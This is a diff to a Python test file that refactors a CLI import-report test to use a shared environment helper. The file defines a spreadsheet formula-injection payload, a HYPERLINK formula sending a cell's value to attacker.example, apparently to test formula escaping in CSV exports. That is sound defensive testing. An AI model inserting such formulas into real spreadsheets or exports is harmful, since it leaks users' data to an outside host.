@@ -22,7 +22,7 @@ from casebook.config import Settings
 from casebook.imports.models import ImportRun
 from casebook.spreadsheet import FORMULA_STARTS, csv_text, safe_cell, tsv_line
 from casebook.stats.services import Release
-from tests.conftest import csrf_from, login, make_user, minimal_case
+from tests.conftest import cli_env, csrf_from, login, make_user, minimal_case
 
 FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"open")'
 ROOT = Path(__file__).resolve().parents[2]
@@ -98,12 +98,7 @@ def test_import_report_file_of_the_cli(app: Flask, settings: Settings, tmp_path:
     path = tmp_path / "cases.jsonl"
     path.write_bytes(_jsonl_with_formula_field())
     report = tmp_path / "report.csv"
-    env = {
-        "CASEBOOK_ENV": "development",
-        "CASEBOOK_INSTANCE": str(settings.instance),
-        "CASEBOOK_KEK_SOURCE": settings.kek_source,
-        "DATABASE_URL": settings.database_url,
-    }
+    env = cli_env(settings)
     result = CliRunner().invoke(
         cli, ["import", str(path), "--dry-run", "--report", str(report)], env=env
     )
